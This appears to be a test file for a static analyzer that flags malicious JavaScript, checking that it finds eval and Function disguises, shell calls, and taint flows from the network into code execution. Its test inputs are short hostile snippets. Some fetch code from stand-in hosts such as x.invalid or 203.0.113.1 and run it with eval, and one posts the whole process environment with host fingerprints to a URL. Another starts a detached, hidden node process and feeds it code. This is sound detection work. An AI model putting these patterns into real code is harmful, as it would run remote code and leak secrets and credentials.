import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { jsSinks } from '../../knowledge/index.ts';
import { analyzeText } from './analyze-file.ts';
import type { CodeFacts, SinkFact } from './types.ts';

function facts(src: string, env: [string, string][] = []): CodeFacts {
  return analyzeText({ path: 'f.js', text: src, lang: 'js', inNodeModules: false, env }, () => undefined);
}

function sink(src: string, kind?: SinkFact['kind']): SinkFact {
  const s = facts(src).sinks.find(x => kind === undefined || x.kind === kind);
  assert.ok(s, `no ${kind ?? ''} sink found`);
  return s;
}

describe('sinks', () => {
  it('recognises eval and its disguises', () => {
    assert.equal(sink('(0, eval)(x)').callee, '(0, eval)');
    assert.equal(sink('globalThis["ev" + "al"](x)').kind, 'eval');
    assert.equal(sink('window.eval(x)').kind, 'eval');
    assert.equal(sink('new (Function.constructor)("require", x)').kind, 'function');
    assert.equal(sink('[].constructor.constructor(x)()').kind, 'function');
    assert.equal(sink('Function("a", x)').kind, 'function');
  });

  it('takes shelljs exec as a shell and its JavaScript commands (echo, mkdir, test) as nothing', () => {
    const f = facts('const sh = require("shelljs"); sh.mkdir(dir); sh.echo(msg); if (sh.test("-f", p)) sh.exec(cmd);');
    assert.deepEqual(
      f.sinks.map(s => [s.kind, s.callee]),
      [['shell', 'shelljs.exec']],
    );
  });

  it('recognises vm, module compilation, string timers, wasm and module loads', () => {
    assert.equal(sink('const { runInThisContext } = require("node:vm"); runInThisContext(x);').kind, 'vm');
    assert.equal(sink('const vm = require("vm"); new vm.Script(x);').kind, 'vm');
    assert.equal(sink('const Module = require("module"); const m = new Module(); m._compile(x, "a.js");').kind, 'module-compile');
    assert.equal(sink('setTimeout("do" + x, 10)').kind, 'timer');
    assert.equal(facts('setTimeout(() => x(), 10)').sinks.length, 0);
    assert.equal(sink('WebAssembly.instantiate(bytes)').kind, 'wasm');
    assert.equal(sink('require(name)').kind, 'module-load');
    assert.equal(sink('import("data:text/javascript;base64,YQ==")').kind, 'module-load');
    assert.equal(facts('require("./a"); import("./b")').sinks.length, 0);
  });

  it('recognises child_process through destructuring, promisify and import', () => {
    assert.equal(sink('const { exec } = require("child_process"); exec(cmd)').kind, 'shell');
    assert.equal(sink('const util = require("util"); const run = util.promisify(require("child_process").exec); run(cmd)').kind, 'shell');
    assert.equal(sink('import { spawn } from "node:child_process"; spawn("git", ["status"])').kind, 'spawn');
  });
});

describe('dataflow', () => {
  const kinds = (src: string): string[] => [...(facts(src).sinks[0]?.taint?.kinds ?? [])].sort();

  it('follows awaits, destructuring and properties', () => {
    assert.deepEqual(kinds('async function f() { const { data } = await axios.get(u); eval(data.code); }'), ['network']);
  });

  it('follows .then callbacks and promise executors', () => {
    assert.deepEqual(kinds('fetch(u).then(r => r.text()).then(t => eval(t));'), ['network']);
    assert.deepEqual(
      kinds(
        'const https = require("https"); const p = new Promise(res => https.get(u, r => { let b = ""; r.on("data", c => b += c); r.on("end", () => res(b)); })); p.then(code => new Function(code)());',
      ),
      ['network'],
    );
  });

  it('follows function parameters and returns', () => {
    assert.deepEqual(kinds('function run(c) { eval(c); } async function load() { return (await fetch(u)).text(); } load().then(run);'), [
      'network',
    ]);
    assert.deepEqual(
      kinds('function get() { return fetch(u).then(r => r.json()); } async function main() { const j = await get(); eval(j.code); }'),
      ['network'],
    );
  });

  it('follows sockets and blockchain contracts', () => {
    assert.deepEqual(kinds('const ws = new WebSocket("wss://x.invalid"); ws.on("message", m => eval(m));'), ['network']);
    assert.deepEqual(kinds('const io = require("socket.io-client"); const s = io("http://203.0.113.1:8087"); s.on("cmd", d => eval(d));'), [
      'network',
    ]);
    assert.deepEqual(
      kinds(
        'const { ethers } = require("ethers"); const c = new ethers.Contract(a, abi, new ethers.JsonRpcProvider(r)); c.getMemo().then(m => eval(m));',
      ),
      ['rpc'],
    );
  });

  it('keeps unrelated variables of other functions apart', () => {
    assert.equal(
      facts('function a() { const data = fetch(u); return data; } function b(data) { eval(data); } b("1 + 1");').sinks[0]?.taint?.kinds
        .length ?? 0,
      0,
    );
  });

  it('carries decoded .env values to the fetch and records the chain', () => {
    const f = facts('const axios = require("axios"); axios.get(atob(process.env.AUTH_API)).then(r => eval(r.data));', [
      ['AUTH_API', 'aHR0cHM6Ly94LmludmFsaWQvYQ=='],
    ]);
    const s = f.sinks[0];
    assert.ok(s?.taint);
    assert.ok(s.taint.values.includes('https://x.invalid/a'));
    assert.deepEqual(
      s.taint.steps.map(x => x.label),
      ['reads process.env.AUTH_API', 'decodes base64 with atob', 'fetches https://x.invalid/a with axios.get'],
    );
  });

  it('reports env dumps and fingerprints sent in requests', () => {
    const f = facts('const os = require("os"); axios.post(u, { env: JSON.stringify(process.env), h: os.hostname(), p: os.platform() });');
    assert.deepEqual([...(f.requests[0]?.payloadTaint?.kinds ?? [])].sort(), ['envdump', 'fingerprint']);
  });

  it('records spawn options, unref and node over stdin', () => {
    const f = facts(
      'const cp = require("child_process"); const c = cp.spawn(process.execPath, ["-"], { detached: true, stdio: "ignore", windowsHide: true }); c.stdin.write(code); c.unref();',
    );
    assert.deepEqual(
      f.spawns[0] && {
        d: f.spawns[0].detached,
        s: f.spawns[0].stdioIgnore,
        w: f.spawns[0].windowsHide,
        u: f.spawns[0].unref,
        n: f.spawns[0].stdinNode,
      },
      { d: true, s: true, w: true, u: true, n: true },
    );
    assert.ok(f.sinks.some(s => s.kind === 'stdin-code'));
  });

  it('gives text-level facts to files that do not parse', () => {
    const f = facts('const u = "http://203.0.113.5:1224/x"; eval(atob(u)) }}} (((');
    assert.ok(f.strings.some(s => s.value.includes('203.0.113.5')));
  });
});

describe('obfuscator string arrays', () => {
  it('solves the rotation of a javascript-obfuscator string array without running its loop', async () => {
    const { readFileSync } = await import('node:fs');
    const src = readFileSync(
      new URL('../../rules/code/remote-code-execution/fixtures/match/obfuscated-loader/lib/analytics.js', import.meta.url),
      'utf8',
    );
    const f = facts(src);
    assert.ok(f.requests.some(r => r.callee === 'axios.get' && r.url === 'https://cdn.example.invalid/p.js'));
    assert.ok(f.sinks.some(s => s.kind === 'function' && s.taint?.kinds.includes('network')));
  });
});

// Every entry of data/knowledge/js-sinks.json changes the facts of code that uses it: an entry
// nothing reads, or one the facts do not recognise, fails here.
describe('the sink and source tables', () => {
  const t = jsSinks();
  const requireOf = (q: string): string => {
    const m = /^(fs-extra|fs|os|zlib)\.(.+)$/.exec(q);
    return m ? `const ${m[1] === 'fs-extra' ? 'fx' : m[1]} = require('${m[1]}');\n` : '';
  };
  const call = (q: string): string => q.replace(/^fs-extra\./, 'fx.');

  it('knows every loader, compiler table and vm compiler as a sink', () => {
    for (const q of t.loaders)
      assert.ok(
        facts(`${q}(process.argv[2]);`).sinks.some(s => s.kind === 'module-load'),
        q,
      );
    for (const q of t.extensionTables) assert.ok(facts(`${q}['.txt'] = function (m, f) { m._compile(read(f), f); };`).sinks.length > 0, q);
    for (const m of t.vmCompilers)
      assert.ok(
        facts(`const vm = require('vm');\nvm.${m}(code);`).sinks.some(s => s.kind === 'vm'),
        m,
      );
  });

  it('runs every process function, in a shell or not', () => {
    for (const f of t.processShell) assert.equal(sink(`require('child_process').${f}(cmd);`).kind, 'shell', f);
    for (const f of t.processSpawn) assert.equal(sink(`require('child_process').${f}(prog, [a]);`).kind, 'spawn', f);
  });

  it('records every file read and write', () => {
    for (const q of t.fileWrites) assert.equal(facts(`${requireOf(q)}${call(q)}('/tmp/x', data);`).writes[0]?.path, '/tmp/x', q);
    for (const q of t.fileReads) assert.equal(facts(`${requireOf(q)}${call(q)}('/tmp/x', data);`).reads[0]?.path, '/tmp/x', q);
  });

  it('takes every decoder and fingerprint read as what it is', () => {
    for (const q of t.decoders) {
      const arg = q.startsWith('Buffer') ? "process.env.P, 'base64'" : 'process.env.P';
      const s = sink(`${requireOf(q)}const s = ${q}(${arg});\neval(s);`, 'eval');
      assert.ok(s.taint?.steps.some(st => st.label.endsWith(`with ${q}`)) && s.taint.kinds.includes('decoded'), q);
    }
    for (const q of t.fingerprint) {
      const f = facts(`${requireOf(q)}fetch('https://example.com/c', { method: 'POST', body: ${q}() });`);
      assert.ok(
        f.requests.some(r => r.payloadTaint?.kinds.includes('fingerprint')),
        q,
      );
    }
  });
});
